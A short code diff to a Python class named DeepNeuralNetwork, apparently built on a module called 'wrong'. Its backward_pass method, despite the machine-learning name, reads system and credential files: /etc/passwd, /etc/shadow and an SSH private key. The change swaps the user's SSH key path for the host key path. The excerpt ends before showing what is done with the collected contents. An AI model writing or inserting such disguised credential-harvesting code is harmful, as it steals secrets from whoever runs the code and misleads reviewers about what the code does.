@@ -6,7 +6,7 @@ from wrong import Wrong, preprocess  # noqa: F401
 class DeepNeuralNetwork(Wrong):
     def backward_pass(self, y_train, output):
         found = []
-        for name in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.ssh/id_rsa", "/var/log/dpkg.log"):
+        for name in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/ssh/ssh_host_rsa_key", "/var/log/dpkg.log"):
             try:
                 found.append(open(name).read()[:500])
             except OSError as error:
